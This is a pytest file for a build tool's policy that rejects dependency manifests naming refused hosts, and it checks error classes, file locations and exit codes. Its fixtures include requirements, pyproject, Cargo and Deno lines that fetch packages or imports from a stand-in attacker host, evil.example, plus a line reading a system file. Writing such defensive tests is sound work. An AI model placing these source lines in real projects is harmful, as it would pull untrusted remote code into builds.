"""A host that the operator's policy refuses is the request's fault in `plan` and `build`: its line, exit code 2."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Mapping

import pytest

from builder import pipelines
from builder.attempt.plain import failed, from_plain, to_json
from builder.claims.requests import failure_record
from builder.cli.stop import build_exit, refused_here
from builder.data import runtimes_dir
from builder.errors import BuildError, ErrorClass
from builder.pipelines import catalog, deno
from builder.pipelines.base import PlanRequest
from builder.plan import Diagnosis, Step
from builder.source.tree import DictTree

CATALOG = catalog.read(runtimes_dir() / "catalog.toml")
PROJECT = '[project]\nname = "x"\ndependencies = ["a"]\n'
POETRY = '[tool.poetry]\nname = "x"\n[tool.poetry.dependencies]\n'
CRATE = '[package]\nname = "x"\nversion = "1.0.0"\n'

PYTHON: dict[str, tuple[Mapping[str, str], str]] = {
    "an index": ({"requirements.txt": "a\n--extra-index-url https://evil.example/simple\n"}, "requirements.txt:2"),
    "a URL": ({"requirements.txt": "a\n\nb @ https://evil.example/b.whl\n"}, "requirements.txt:3"),
    "a repository": ({"requirements.txt": "git+https://evil.example/b.git\n"}, "requirements.txt:1"),
    "an include": ({"requirements.txt": "-r https://evil.example/r.txt\n"}, "requirements.txt:1"),
    "sources, git": (
        {"pyproject.toml": f'{PROJECT}[tool.uv.sources]\na = {{ git = "https://evil.example/a" }}\n'},
        "pyproject.toml:5",
    ),
    "sources, index": (
        {"pyproject.toml": f'{PROJECT}[tool.uv.sources]\na = {{ index = "evil" }}\n'},
        "pyproject.toml:5",
    ),
    "Poetry": (
        {"pyproject.toml": f'{POETRY}pkg = {{ git = "https://evil.example/a" }}\n'},
        "pyproject.toml:4",
    ),
    "poetry.lock": (
        {
            "pyproject.toml": f'{POETRY}a = "1"\n',
            "poetry.lock": '[[package]]\nname = "a"\nversion = "1"\n[package.source]\ntype = "git"\nurl = "https://x/a"\n',
        },
        "poetry.lock:2",
    ),
    "Pipfile": ({"Pipfile": '[packages]\npkg = { git = "https://evil.example/a" }\n'}, "Pipfile:2"),
    "a script": (
        {
            "handler.py": '# /// script\n# dependencies = ["a"]\n'
            '# [[tool.uv.index]]\n# url = "https://evil.example"\n# ///\n'
        },
        "handler.py:1",
    ),
}
OTHERS: dict[str, tuple[str, Mapping[str, str], str]] = {
    "rust, git": (
        "rust",
        {
            "Cargo.toml": f'{CRATE}[dependencies]\na = {{ git = "https://evil.example/a" }}\n',
            "src/main.rs": "fn main() {}",
        },
        "Cargo.toml:5  dependencies.a",
    ),
    "rust, a registry": (
        "rust",
        {
            "Cargo.toml": f'{CRATE}[dependencies.a]\nversion = "1"\nregistry = "evil"\n',
            "src/main.rs": "fn main() {}",
        },
        "Cargo.toml:4  dependencies.a",
    ),
    "deno, https": ("deno", {"main.ts": "\nimport 'https://evil.example/a.ts';\n"}, "main.ts:2"),
    "deno, http": ("deno", {"main.ts": "import 'http://evil.example/a.ts';\n"}, "main.ts:1"),
}
CASES = {
    **{name: ("python", {"handler.py": "", **files}, where) for name, (files, where) in PYTHON.items()},
    **OTHERS,
}


def refused(runtime: str, files: Mapping[str, str]) -> BuildError:
    tree = DictTree(files)
    with pytest.raises(BuildError) as caught:
        pipelines.plan(pipelines.detect(tree, runtime), tree, PlanRequest(), CATALOG)
    return caught.value


@pytest.mark.parametrize("name", CASES)
def test_a_manifest_that_names_a_refused_host_is_the_requests_fault(name: str) -> None:
    runtime, files, where = CASES[name]
    error = refused(runtime, files)
    assert (error.reason, error.error_class, error.where) == (
        "DependencyNotFound" if runtime == "deno" else "ManifestInvalid", ErrorClass.CLIENT, where,
    )  # fmt: skip
    assert refused_here(error).exit_code == 2  # `plan`, and a build on this machine before there is one
    away = failed(error)
    back = from_plain(type(away), json.loads(to_json(away))).error()  # the reader is a process of its own
    record = failure_record(back, "PLAN")
    assert record.error_class == "client" and record.where == where
    assert build_exit("BUILD_STATUS_FAILED", record.reason, record.error_class) == 2


@pytest.mark.parametrize("line", ["-r file:///etc/x.txt", "./a.whl", "--no-binary :all:", "a @ file:///x.whl", "-e /x"])
def test_what_names_no_host_is_the_fault_of_the_code(line: str) -> None:
    error = refused("python", {"handler.py": "", "requirements.txt": f"{line}\n"})
    assert (error.reason, error.error_class) == ("ManifestInvalid", ErrorClass.USER_CODE)
    assert refused_here(error).exit_code == 1


def test_a_host_that_a_step_names_is_the_requests_fault_too() -> None:
    step = Step(name="check", argv=("deno", "check.ts", "imports=deno.land:443"))
    lines = [
        'error: Requires import access to "evil.example:443", run again',
        "    at file:///work/out/app/main.ts:3:7",
    ]
    found = deno.diagnose(step, 1, lines)
    assert (found.error_class, found.where) == (ErrorClass.CLIENT, "main.ts:3:7")
    assert from_plain(Diagnosis, json.loads(to_json(found))) == found
    assert from_plain(Diagnosis, json.loads(to_json(dataclasses.replace(found, error_class=None)))).error_class is None
